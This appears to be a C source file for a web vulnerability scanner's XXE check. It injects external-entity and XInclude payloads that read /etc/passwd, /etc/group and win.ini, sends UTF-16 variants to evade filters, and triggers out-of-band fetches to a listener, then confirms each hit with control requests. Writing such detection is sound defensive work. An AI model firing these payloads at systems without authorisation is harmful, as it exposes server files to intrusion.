/* Active: an XML parser resolves external entities (CWE-611). In-band: a file that every
 * system has stands where the entity stood. By error: the parser names our random path as
 * missing. Out-of-band: it asks our listener. Also where JSON or a form was expected, and
 * in parameters that hold XML. Entities are never nested: nothing grows. */
#include "scan/checks/active_private.h"
#include "base/encode.h"
#include "base/limits.h"
#include "scan/oob.h"
#include "scan/values.h"

struct file {
	const char *where, *mark;
};
static const struct file files[] = {
	{ "SYSTEM \"file:///etc/passwd\"", "root:x:0:0:" },
	{ "PUBLIC \"q\" \"file:///etc/passwd\"", "root:x:0:0:" },
	{ "SYSTEM \"file:///c:/windows/win.ini\"", "for 16-bit app support" },
};

/* Name of the document element: a DOCTYPE must agree with it. */
static struct str root_of(struct str xml)
{
	size_t i = 0;
	for (; i + 1 < xml.len; i++)
		if (xml.ptr[i] == '<' && (ascii_alpha(xml.ptr[i + 1]) || xml.ptr[i + 1] == '_'))
			break;
	size_t from = i + 1, to = from;
	while (to < xml.len && !ascii_space(xml.ptr[to]) && xml.ptr[to] != '>' && xml.ptr[to] != '/')
		to++;
	return from < xml.len ? str_sub(xml, from, to) : STR("");
}

/* The document with a DOCTYPE in front; its own declaration and DOCTYPE go. */
static struct str with_doctype(struct probe *p, struct str xml, struct str declarations)
{
	struct str root = root_of(xml), rest;
	ssize_t at = str_find(xml, probe_printf(p, "<%.*s", STR_ARG(root)));
	rest = str_from(xml, at < 0 ? 0 : (size_t)at);
	return probe_printf(p, "<?xml version=\"1.0\"?><!DOCTYPE %.*s [%.*s]>%.*s", STR_ARG(root), STR_ARG(declarations),
			    STR_ARG(rest));
}

/* How the document reaches the server. */
struct way {
	struct str xml;	    /* with &q; where the value stood */
	struct str type;    /* whole body of this type; empty: the point's value */
	bool wide;	    /* in UTF-16: for filters that look for the letters */
};

/* ASCII as UTF-16 with its mark; what is not ASCII becomes "?". */
static struct str widened(struct probe *p, struct str s)
{
	char *out = arena_alloc(probe_arena(p), s.len * 2 + 2), *w = out;
	*w++ = (char)0xfe;
	*w++ = (char)0xff;
	for (size_t i = 0; i < s.len; i++) {
		*w++ = 0;
		*w++ = s.ptr[i] & 0x80 ? '?' : s.ptr[i];
	}
	return str_make(out, (size_t)(w - out));
}

static int send_xml(struct probe *p, const struct way *w, struct str declarations, const struct scan_exchange **ret)
{
	struct str doc = with_doctype(p, w->xml, declarations);
	if (w->wide)
		doc = widened(p, probe_printf(p, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>%.*s", STR_ARG(str_from(doc, strlen("<?xml version=\"1.0\"?>")))));
	struct scan_mutation m = { .fresh = true };
	if (w->type.len) {
		m.body_set = true;
		m.body = doc;
		m.content_type = w->type;
	} else {
		m.value = doc;
		m.value_set = true;
	}
	return probe_send(p, &m, ret);
}

static bool report(struct probe *p, const struct scan_exchange *x, struct str proof, const char *zh, const char *en)
{
	probe_report(p, &(struct scan_report){ .exchange = x, .proof = proof, .confidence_set = true,
					       .confidence = CONFIDENCE_CERTAIN, .detail_zh = str_c(zh), .detail_en = str_c(en) });
	return true;
}

/* "a" "b" → b */
static struct str last_quoted(struct str s)
{
	struct str open = str_sub(s, 0, s.len - 1);
	return str_from(open, (size_t)(str_rchr(open, '"') + 1));
}

static bool try_files(struct probe *p, const struct way *w)
{
	const struct scan_exchange *x, *again;
	for (size_t i = 0; i < ARRAY_SIZE(files); i++) {
		struct str mark = str_c(files[i].mark);
		struct str dtd = probe_printf(p, "<!ENTITY q %s>", files[i].where);
		if (send_xml(p, w, dtd, &x) < 0)
			return false;
		struct str proof = active_find(x, mark);
		if (!proof.ptr || active_find(probe_base(p), mark).ptr)
			continue;
		/* without the entity it is not there: no page that always shows it, nor one that finds it by the words */
		if (send_xml(p, w, STR("<!ENTITY q \"q\">"), &again) < 0 || active_find(again, mark).ptr ||
		    send_xml(p, w, probe_printf(p, "<!ENTITY q \"%.*s\">", STR_ARG(last_quoted(str_c(files[i].where)))), &again) < 0 ||
		    active_find(again, mark).ptr)
			continue;
		return report(p, x, proof, "XML 中的外部实体被解析，服务器上的文件内容出现在响应里；内部实体则不会。",
			      "An external entity in the XML was resolved and a file of the server stands in the answer; an internal "
			      "entity brings nothing.");
	}
	return false;
}

/* The parser says that our path is not there, in its own words; an internal entity brings none. */
static bool try_error(struct probe *p, const struct way *w)
{
	static const char *const words[] = { "failed to load external entity", "No such file or directory", "FileNotFoundException",
					     "Could not find file", "I/O warning", "cannot find the path", "URLError", "Errno 2",
					     "The system cannot find", "Error in processing external entity",
					     "Entity resolution", "external entity", "not-wf", "ENOENT" };
	const struct scan_exchange *x, *plain;
	struct str name = probe_word(p, 12);
	if (send_xml(p, w, probe_printf(p, "<!ENTITY q SYSTEM \"file:///%.*s/x\">", STR_ARG(name)), &x) < 0)
		return false;
	struct str text = active_content(x);
	ssize_t at = str_find(text, name);
	if (at < 0)
		return false;
	size_t from = at > 200 ? (size_t)at - 200 : 0;
	struct str around = str_sub(text, from, (size_t)at + name.len + 200);
	for (size_t i = 0; i < ARRAY_SIZE(words); i++) {
		ssize_t k = str_ifind(around, str_c(words[i]));
		if (k < 0)
			continue;
		/* an internal entity with the same text in it must not bring the words */
		if (send_xml(p, w, probe_printf(p, "<!ENTITY q \"file:///%.*s/x\">", STR_ARG(name)), &plain) < 0 ||
		    str_ihas(active_content(plain), str_c(words[i])))
			return false;
		return report(p, x, str_sub(around, (size_t)k, (size_t)k + strlen(words[i])),
			      "XML 解析器去读取外部实体所指的文件，并报告它不存在；内部实体不引起此错误。",
			      "The XML parser went to read the file that an external entity names and reports it missing; an internal "
			      "entity brings no such error.");
	}
	return false;
}

static void try_calling(struct probe *p, const struct way *w)
{
	static const char *const dtds[] = { "<!ENTITY q SYSTEM \"{0}\">", "<!ENTITY % r SYSTEM \"{0}\"> %r; <!ENTITY q \"q\">" };
	for (size_t i = 0; i < ARRAY_SIZE(dtds); i++) {
		struct scan_oob_name name;
		const struct scan_exchange *x;
		if (!probe_oob_host(p, &name))
			return;
		struct str dtd = active_fill(p, dtds[i], &name.url);
		if (send_xml(p, w, dtd, &x) < 0)
			return;
		probe_oob_expect(p, name.token, SCAN_OOB_ANY,
				 &(struct scan_report){ .exchange = x, .proof = name.url,
							.detail_zh = STR("XML 解析器去取了外部实体所指的地址。"),
							.detail_en = STR("The XML parser went to fetch what an external entity names.") });
	}
}

static bool try_way(struct probe *p, const struct way *w)
{
	if (try_files(p, w) || try_error(p, w))
		return true;
	if (probe_oob_ready(p))
		try_calling(p, w);
	/* a document included by name: XInclude needs no DOCTYPE */
	return false;
}

static bool try_xinclude(struct probe *p, const struct scan_point *pt)
{
	const struct scan_exchange *x, *again;
	static const char form[] = "<q xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{0}\"/></q>";
	struct str file = STR("file:///etc/passwd"), other = STR("file:///etc/group"), mark = STR("root:x:0:");
	struct scan_mutation m = { .value = active_fill(p, form, &file), .value_set = true, .raw = pt->where == WHERE_XML };
	if (probe_send(p, &m, &x) < 0)
		return false;
	struct str proof = active_find(x, mark);
	if (!proof.ptr || active_find(probe_base(p), mark).ptr)
		return false;
	/* the same words where nothing is included: not a page that finds texts by words */
	m.value = active_fill(p, "<q xmlns:xi=\"http://www.w3.org/2001/XInclude\"><q:include parse=\"text\">{0}</q:include></q>", &file);
	if (probe_send(p, &m, &again) < 0 || active_find(again, mark).ptr)
		return false;
	m.value = active_fill(p, form, &other);
	if (probe_send(p, &m, &again) < 0 || !active_find(again, mark).ptr || str_eq(again->body, x->body))
		return false;
	return report(p, x, proof, "XInclude 被处理，服务器上的文件内容出现在响应里。",
		      "XInclude is processed and a file of the server stands in the answer.");
}

/* A form or JSON body as XML: what frameworks that take any type would read. */
static struct str as_xml(struct probe *p, const struct scan_point *pt)
{
	ssize_t slash = str_rchr(pt->name, '/');
	struct str name = str_from(pt->name, (size_t)(slash + 1));
	_cleanup_buf_ struct buf b = BUF_INIT(4096);
	for (size_t i = 0; i < name.len && i < 60; i++)
		buf_char(&b, ascii_alnum(name.ptr[i]) || name.ptr[i] == '_' ? name.ptr[i] : '_');
	return probe_printf(p, "<root><%.*s>&q;</%.*s></root>", (int)b.len, b.ptr, (int)b.len, b.ptr);
}

static bool holds_xml(const struct scan_point *pt)
{
	static const struct str names[] = { STR_INIT("xml"), STR_INIT("soap"), STR_INIT("svg"), STR_INIT("doc"), STR_INIT("data"),
					    STR_INIT("feed"), STR_INIT("saml") };
	if (str_starts(str_trim(pt->value), STR("<")))
		return true;
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		if (str_ihas(pt->name, names[i]))
			return true;
	return false;
}

static void probe_xml(struct probe *p, const struct scan_point *pt)
{
	bool deep = probe_mode(p) == SCAN_DEEP;
	struct way w = { 0 };
	if (probe_reported(p) || (pt->where == WHERE_HEADER && !active_own_header(pt)) || (probe_sqli_found(p) && !deep && pt->where != WHERE_XML))
		return;
	if (pt->where == WHERE_XML) {
		const struct scan_exchange *base = pt->base;
		struct body_value list[40];
		size_t n = values_of_xml(probe_arena(p), base->request_body, list, 40), i = 0;
		_cleanup_buf_ struct buf b = BUF_INIT(2 * MIB);
		while (i < n && !str_eq(list[i].name, pt->name))
			i++;
		if (i == n || list[i].kind != VALUE_XML_TEXT) {
			return;
		}
		values_replace(&b, base->request_body, &list[i], STR("&q;"), true);
		w.xml = arena_str(probe_arena(p), buf_view(&b));
		w.type = scan_header_get(&base->request_headers, "content-type");
		if (try_way(p, &w) || try_xinclude(p, pt))
			return;
		w.wide = true;
		w.type = STR("application/xml; charset=utf-16");
		const struct scan_exchange *x;
		if (send_xml(p, &w, STR("<!ENTITY q SYSTEM \"file:///etc/passwd\">"), &x) == 0 && active_find(x, STR("root:x:0:0:")).ptr)
			try_files(p, &w);
		return;
	}
	if (!holds_xml(pt) && !deep && (pt->where == WHERE_JSON || pt->where == WHERE_BODY) && !active_plain_number(pt->value)) {
		const struct scan_exchange *x;
		w.xml = STR("<root>&q;</root>");
		/* one look, before more is asked */
		if (send_xml(p, &w, STR("<!ENTITY q SYSTEM \"file:///etc/passwd\">"), &x) == 0 && active_find(x, STR("root:x:0:0:")).ptr)
			try_files(p, &w);
	}
	if (holds_xml(pt) || deep) {
		struct str v = str_trim(pt->value);
		w.xml = STR("<root>&q;</root>");
		if (str_starts(v, STR("<"))) { /* keep its shape: the entity in its first text */
			struct body_value list[40];
			size_t n = values_of_xml(probe_arena(p), v, list, 40), i = 0;
			_cleanup_buf_ struct buf b = BUF_INIT(2 * MIB);
			while (i < n && list[i].kind != VALUE_XML_TEXT)
				i++;
			if (i < n) {
				values_replace(&b, v, &list[i], STR("&q;"), true);
				w.xml = arena_str(probe_arena(p), buf_view(&b));
			}
		}
		if (try_way(p, &w) || (deep && try_xinclude(p, pt)))
			return;
	}
	if ((pt->where == WHERE_JSON || (deep && pt->where == WHERE_BODY)) && probe_first_point(p)) {
		w.xml = as_xml(p, pt);
		w.type = STR("application/xml");
		try_way(p, &w);
	}
}

const struct scan_check check_xxe = {
	.id = "xxe",
	.title_zh = "XML 外部实体注入（XXE）",
	.title_en = "XML external entities",
	.severity = SEVERITY_HIGH,
	.cwe = 611,
	.owasp = "A05:2021",
	.modes = SCAN_STANDARD_UP,
	.place = PLACE_POINT,
	.on_point = probe_xml,
};
